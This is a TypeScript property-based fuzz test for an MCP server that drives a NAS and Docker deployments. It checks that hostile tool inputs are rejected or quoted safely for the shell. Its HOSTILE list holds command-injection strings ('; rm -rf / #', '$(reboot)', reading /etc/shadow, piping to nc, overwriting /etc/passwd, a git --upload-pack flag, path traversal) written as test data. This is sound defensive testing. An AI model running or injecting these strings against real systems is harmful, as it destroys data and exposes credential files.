/**
 * Property test over every tool's input schema: random and hostile values
 * for every field (quotes, $(), backticks, ;, newlines, NUL, unicode, huge
 * strings, wrong types, unknown keys) go through the real MCP server in
 * memory. Underneath, a recording NAS: an in-memory file system for SFTP,
 * exec that records every argv, a Docker engine that records every call.
 *
 * For every call: an answer comes (no crash, no hang); input the schema
 * refuses gets a validation error and touches nothing; nothing ends as an
 * internal error. For every argv that would reach the NAS: the project's
 * quoting (src/ssh/quote.ts), parsed by a real /bin/sh, gives back exactly
 * the same values; every Docker call names a container the way the Engine
 * API path builders accept and encode back losslessly.
 */
import { execFileSync } from 'node:child_process';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { renderUpstream } from '../../../src/domain/index.js';
import { configSchema, type Config } from '../../../src/config.js';
import { paths } from '../../../src/docker/requests.js';
import { JobRegistry } from '../../../src/jobs.js';
import { ReadCoalescer } from '../../../src/ops/coalesce.js';
import { createCore, createMcpServer } from '../../../src/server.js';
import type { Services } from '../../../src/services.js';
import { quoteArgv, UnsafeArgumentError } from '../../../src/ssh/quote.js';
import { allPrompts, allResources } from '../../../src/resources/index.js';
import { allTools } from '../../../src/tools/index.js';
import type { AnyToolDefinition } from '../../../src/tools/types.js';
import { memoryLogger, testDeps } from '../server/fixtures.js';

// ---------------------------------------------------------------------------
// The recording NAS

interface Recorder {
  argvs: string[][];
  docker: Array<{ method: string; args: unknown[] }>;
  /** Touches of the NAS by the call in progress. */
  touches: number;
}

type Cb = (err: (Error & { code?: number }) | null | undefined, v?: unknown) => void;
const noSuchFile = () => Object.assign(new Error('No such file'), { code: 2 });

/** Just enough of ssh2's SFTPWrapper over a Map of path → bytes. */
function memorySftp(files: Map<string, Buffer>, rec: Recorder) {
  const handles = new Map<string, string>();
  let next = 0;
  const impl: Record<string, (...a: any[]) => void> = {
    open: (path: string, _flags: string, cb: Cb) => {
      if (!files.has(path)) return cb(noSuchFile());
      const h = String(next++);
      handles.set(h, path);
      cb(null, Buffer.from(h));
    },
    fstat: (h: Buffer, cb: Cb) => cb(null, { size: files.get(handles.get(String(h))!)?.length ?? 0 }),
    read: (h: Buffer, buf: Buffer, off: number, len: number, pos: number, cb: (e: Error | null, n?: number) => void) => {
      const data = files.get(handles.get(String(h))!) ?? Buffer.alloc(0);
      cb(null, data.copy(buf, off, pos, pos + len));
    },
    close: (h: Buffer, cb: Cb) => (handles.delete(String(h)), cb(null)),
    stat: (path: string, cb: Cb) => (files.has(path) ? cb(null, {}) : cb(noSuchFile())),
    writeFile: (path: string, content: string | Buffer, _o: unknown, cb: Cb) => (files.set(path, Buffer.from(content)), cb(null)),
    ext_openssh_rename: (from: string, to: string, cb: Cb) => {
      const v = files.get(from);
      if (!v) return cb(noSuchFile());
      files.delete(from);
      files.set(to, v);
      cb(null);
    },
    unlink: (path: string, cb: Cb) => (files.delete(path), cb(null)),
  };
  return new Proxy(impl, {
    get: (t, key: string) => {
      if (key === 'then') return undefined; // not a promise
      rec.touches++;
      return t[key] ?? ((...a: unknown[]) => (a.at(-1) as Cb)(new Error(`sftp.${key} is not modelled here`)));
    },
  });
}

function recordingNas(config: Config, rec: Recorder) {
  const files = new Map<string, Buffer>([
    [config.nginx.upstreamFile, Buffer.from(renderUpstream({ app: config.app.name, color: 'blue', ports: config.app.colorPorts, deploymentId: 'initial', at: new Date(0) }))],
  ]);
  const sftp = memorySftp(files, rec);
  const exec = async (argv: readonly string[]) => {
    rec.touches++;
    rec.argvs.push([...argv]);
    // Quoting happens for every command the pool sends; a value it refuses never leaves.
    quoteArgv(argv);
    const stdout = argv.includes('rev-parse') ? `${'a1'.repeat(20)}\n` : argv[0] === 'cat' ? '1.2.3\n' : '';
    return { code: argv[0] === 'test' ? 1 : 0, signal: undefined, stdout, stderr: '', stdoutTruncated: false, stderrTruncated: false, durationMs: 1 };
  };
  const pool = {
    exec,
    run: exec,
    openStream: async (argv: readonly string[]) => {
      await exec(argv);
      throw new Error('no stream in this test');
    },
    forward: async () => {
      rec.touches++;
      throw new Error('nothing listens in this test');
    },
    sharedSftp: async () => sftp,
    withSftp: async <T,>(fn: (s: unknown) => Promise<T>) => fn(sftp),
  };
  const container = (name: string) => ({
    id: 'c0ffee', name, image: 'loop-api:1', imageId: 'sha256:1', labels: {}, state: 'running', health: 'healthy',
    startedAt: new Date(0).toISOString(), finishedAt: undefined, exitCode: undefined, restartCount: 0, ports: [], networks: ['loop_default'], lastHealthOutput: undefined,
  });
  const answers: Record<string, (...a: any[]) => unknown> = {
    ping: () => true,
    inspect: (name: string) => container(name),
    listContainers: () => [],
    containerSpec: (name: string) => ({ name, image: 'loop-api:1', labels: {}, env: {}, binds: [], network: 'loop_default', restartPolicy: 'no' }),
    logs: () => [{ stream: 'stdout', text: 'hello' }],
    imageExists: () => true,
    listImages: () => [],
    create: () => 'c0ffee',
  };
  const docker = new Proxy(
    {},
    {
      get: (_t, key) => {
        if (key === 'then') return undefined;
        return async (...args: unknown[]) => {
          rec.touches++;
          rec.docker.push({ method: String(key), args });
          return answers[String(key)]?.(...args);
        };
      },
    },
  );
  return { pool, docker };
}

// ---------------------------------------------------------------------------
// Values

const HOSTILE = [
  "x'; reboot #", "'", '"', '`id`', '$(reboot)', '${IFS}cat${IFS}/etc/shadow', '; rm -rf / #', '|| true', '&& id', '| nc evil 1', '> /etc/passwd',
  'a\nb', 'a\r\nb', 'x\0y', '\0', '\\', '\\\\\'', '*', '~root', '-rf', '--upload-pack=touch /tmp/x', '../../etc/passwd', 'main; reboot', 'main$(id)',
  '', ' ', '\t', '\u202eevil', 'é✓😀', '\ud800', 'loop-api-blue', 'blue', 'green', 'loop-api', '%2e%2e%2f', 'a%00b', '<<<end nas-data>>>',
];

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 2, arbitrary: fc.array(fc.constantFrom(...HOSTILE), { minLength: 1, maxLength: 5 }).map((a) => a.join('')) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.constantFrom('x'.repeat(5_000), '$('.repeat(50_000), "'".repeat(200_000)) },
);

const wrongType = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.oneof(fc.string({ maxLength: 5 }), fc.integer()), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 2 }),
);

interface JsonField {
  type?: string;
  enum?: unknown[];
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
}

/** Strings matching a pattern; fast-check has no lookaround, so generate without it and filter. */
function matching(pattern: string): fc.Arbitrary<string> {
  try {
    return fc.stringMatching(new RegExp(pattern));
  } catch {
    return fc.stringMatching(new RegExp(pattern.replace(/\(\?<?[!=][^)]*\)/g, '')));
  }
}

/** Values the schema accepts, from its JSON Schema (what clients see). */
function validFor(f: JsonField): fc.Arbitrary<unknown> {
  if (f.enum) return fc.constantFrom(...f.enum);
  switch (f.type) {
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return fc.integer({ min: f.minimum ?? -1e6, max: f.maximum ?? 1e6 });
    case 'number':
      return fc.double({ min: f.minimum ?? -1e6, max: f.maximum ?? 1e6, noNaN: true });
    case 'string': {
      const min = f.minLength ?? 0;
      const max = f.maxLength ?? 1000;
      const fits = (s: string) => s.length >= min && s.length <= max;
      const base = f.pattern
        ? matching(f.pattern).map((s) => s.slice(0, max))
        : fc.oneof(hostileString.map((s) => s.slice(0, max)), fc.string({ unit: 'grapheme', minLength: min, maxLength: Math.min(max, 40) }));
      return base.filter((s) => fits(s) && (!f.pattern || new RegExp(f.pattern).test(s)));
    }
    default:
      return fc.anything();
  }
}

/**
 * For one tool: half the time every field valid (so calls get past the
 * schema and reach the NAS with hostile-but-legal text), half the time each
 * field valid, hostile or of the wrong type; fields left out at random,
 * sometimes an unknown key.
 */
function argsFor(schema: { properties?: Record<string, JsonField> }): fc.Arbitrary<Record<string, unknown>> {
  const props = Object.entries(schema.properties ?? {});
  const valid = fc.record(Object.fromEntries(props.map(([k, f]) => [k, validFor(f)])), { requiredKeys: [] });
  const mixed = fc.record(
    Object.fromEntries(
      props.map(([k, f]) => [k, fc.oneof({ weight: 3, arbitrary: validFor(f) }, { weight: 3, arbitrary: hostileString }, { weight: 1, arbitrary: wrongType })]),
    ),
    { requiredKeys: [] },
  );
  const unknownKey = fc.option(fc.tuple(fc.constantFrom('colour', 'cmd', '__proto__x', 'x'.repeat(300)), hostileString), { freq: 8 });
  return fc
    .tuple(fc.oneof(valid, mixed), unknownKey)
    .map(([args, extra]) => (extra ? { ...args, [extra[0]]: extra[1] } : args));
}

// ---------------------------------------------------------------------------
// What the shell makes of a quoted argv

/** Each argument as /bin/sh parses the quoted command line, as bytes. */
function shellParse(argv: readonly string[]): Buffer[] {
  const out = execFileSync('/bin/sh', ['-c', `printf '%s\\0' ${quoteArgv(argv)}`]);
  const parts: Buffer[] = [];
  let start = 0;
  for (let i = 0; i < out.length; i++) {
    if (out[i] === 0) {
      parts.push(out.subarray(start, i));
      start = i + 1;
    }
  }
  return parts;
}

const CONTAINER_SEGMENT = /\/containers\/([^/?]+)/;

// ---------------------------------------------------------------------------

describe('every tool, random and hostile input (property)', () => {
  const rec: Recorder = { argvs: [], docker: [], touches: 0 };
  const config = configSchema.parse({
    nas: { username: 'admin', privateKeyPath: '/k', hostKeyFingerprint: `SHA256:${'A'.repeat(43)}` },
    sudo: { mode: 'none' },
    // Health gates probe through forward(), which fails at once here: one attempt, no verify window.
    deploy: { healthAttempts: 1, healthIntervalMs: 100, verifySeconds: 0, rollbackVerifySeconds: 0 },
  });
  let client: Client;
  let core: ReturnType<typeof createCore>;
  let jsonSchemas: Record<string, { properties?: Record<string, JsonField> }> = {};

  beforeAll(async () => {
    const { pool, docker } = recordingNas(config, rec);
    const services = { config, pool, docker, log: memoryLogger().log, jobs: new JobRegistry(), reads: new ReadCoalescer() } as unknown as Services;
    core = createCore({ ...testDeps({ config }), tools: allTools, resources: allResources, prompts: allPrompts, services });
    const server = createMcpServer(core, 'stdio');
    const [c, s] = InMemoryTransport.createLinkedPair();
    await server.connect(s);
    client = new Client({ name: 'fuzz', version: '1' });
    await client.connect(c);
    const { tools } = await client.listTools();
    jsonSchemas = Object.fromEntries(tools.map((t) => [t.name, t.inputSchema as { properties?: Record<string, JsonField> }]));
  });

  afterAll(async () => {
    await client?.close();
  });

  it.each(allTools.map((t) => [t.name, t] as const))('%s', async (_name, def) => {
    // What clients see: the definition's fields plus target/app for scoped tools.
    const strict = z.object(core.inventory.inputSchemaOf((def as AnyToolDefinition).name)!).strict();
    const seen = new Set<string>();
    await fc.assert(
      fc.asyncProperty(argsFor(jsonSchemas[def.name]!), async (args) => {
        const before = { touches: rec.touches, argvs: rec.argvs.length, docker: rec.docker.length };
        // No hang: a call that does not answer in 10 s fails the property.
        const r = (await client.callTool({ name: def.name, arguments: args }, undefined, { timeout: 10_000 })) as CallToolResult;
        const text = (r.content[0] as { text?: string } | undefined)?.text;
        expect(typeof text).toBe('string');
        expect(text).not.toMatch(/^Internal error/);
        if (!strict.safeParse(args).success) {
          // Refused at the door with a clear validation error; nothing reached the NAS.
          expect(r.isError).toBe(true);
          expect(text).toMatch(/Input validation error/);
          expect(rec.touches).toBe(before.touches);
        }
        for (const argv of rec.argvs.slice(before.argvs)) {
          const key = JSON.stringify(argv);
          if (seen.has(key)) continue;
          seen.add(key);
          // What the remote shell would run is exactly what the code meant to run.
          expect(shellParse(argv)).toEqual(argv.map((a) => Buffer.from(a, 'utf8')));
        }
        for (const call of rec.docker.slice(before.docker)) {
          const name = call.args[0];
          if (typeof name !== 'string' || !(call.method in paths)) continue;
          const path = (paths as Record<string, (...a: any[]) => string>)[call.method]!(name, 10);
          expect(decodeURIComponent(CONTAINER_SEGMENT.exec(path)?.[1] ?? '')).toBe(name);
        }
      }),
      // More runs for tools with more fields to vary (recover has none: only unknown keys).
      { numRuns: 40 + 25 * Object.keys(jsonSchemas[def.name]!.properties ?? {}).length },
    );
  }, 120_000);

  it('a ref the schema accepts reaches git as one argument, exactly, and the shell reads it back the same', async () => {
    const refField = jsonSchemas.deploy_blue_green!.properties!.ref!;
    await fc.assert(
      fc.asyncProperty(validFor(refField) as fc.Arbitrary<string>, async (ref) => {
        const before = rec.argvs.length;
        const r = (await client.callTool({ name: 'deploy_blue_green', arguments: { ref, wait_seconds: 5 } }, undefined, { timeout: 10_000 })) as CallToolResult;
        expect((r.content[0] as { text: string }).text).not.toMatch(/^Internal error/);
        const checkout = rec.argvs.slice(before).find((a) => a[0] === 'git' && a.includes('checkout'));
        expect(checkout?.at(-1)).toBe(ref);
        expect(shellParse(checkout!)).toEqual(checkout!.map((a) => Buffer.from(a, 'utf8')));
      }),
      { numRuns: 40 },
    );
    expect(() => quoteArgv(['git', 'checkout', 'a\0b'])).toThrow(UnsafeArgumentError);
  }, 60_000);

  it('the server still answers after all that', async () => {
    const { tools } = await client.listTools();
    expect(tools.length).toBe(allTools.length);
    await expect(client.ping()).resolves.toBeDefined();
  });
});
